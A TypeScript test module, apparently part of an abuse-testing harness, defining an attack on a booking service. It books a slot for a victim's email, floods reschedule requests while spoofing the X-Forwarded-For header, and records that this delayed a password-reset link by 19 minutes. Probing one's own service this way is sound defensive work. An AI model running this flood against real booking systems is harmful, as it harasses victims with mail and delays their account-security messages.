import { ATTACKER, type Attack, type Target } from './attack.ts';
import { flood } from './flood.ts';

const DAY_MS = 24 * 60 * 60 * 1000;
const ZONE = 'UTC';

export const movedBookings: Attack = {
  name: 'a booking that moves again and again',
  promise:
    'a move supersedes the letters of the one before, and account security has a lane of its own',
  found: '1,161 moves in 30 s, and a reset link took 19 minutes',
  keepsToBudget: true,
  async run(target, until) {
    const starts = await freeTimes(target);
    const { manageUrl } = await ask<{ manageUrl: string }>(target, '/api/booking', {
      start: starts[0],
      timeZone: ZONE,
      name: 'Mallory',
      email: 'victim@example.com',
    });
    const path = `/api/booking/${manageUrl.split('/').at(-1)}/reschedule`;
    await flood(target, until, 4, (number) => ({
      path,
      json: { start: starts[number % starts.length] },
    }));
  },
};

async function freeTimes(target: Target): Promise<string[]> {
  const day = (days: number) => new Date(Date.now() + days * DAY_MS).toISOString().slice(0, 10);
  const range = new URLSearchParams({ from: day(7), to: day(21), timeZone: ZONE });
  const { slots } = await ask<{ slots: { start: string }[] }>(
    target,
    `/api/booking/slots?${range.toString()}`,
  );
  if (slots.length < 2) throw new Error('Nobody can be booked.');
  return slots.map(({ start }) => start);
}

async function ask<Answer>({ url }: Target, path: string, json?: object): Promise<Answer> {
  const response = await fetch(url + path, {
    method: json ? 'POST' : 'GET',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': ATTACKER },
    ...(json && { body: JSON.stringify(json) }),
  });
  if (!response.ok) throw new Error(`${path} answered ${response.status}.`);
  return (await response.json()) as Answer;
}
